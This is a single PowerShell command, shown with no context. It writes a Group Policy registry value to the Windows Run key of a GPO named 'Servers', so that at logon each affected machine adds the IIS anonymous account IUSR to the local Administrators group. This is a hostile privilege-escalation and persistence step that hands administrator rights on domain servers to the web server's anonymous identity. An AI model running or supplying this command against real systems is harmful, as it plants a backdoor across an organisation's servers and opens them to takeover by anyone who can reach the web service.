Set-GPRegistryValue -Name Servers -Key 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -ValueName setup -Type String -Value 'net localgroup Administrators IUSR /add'
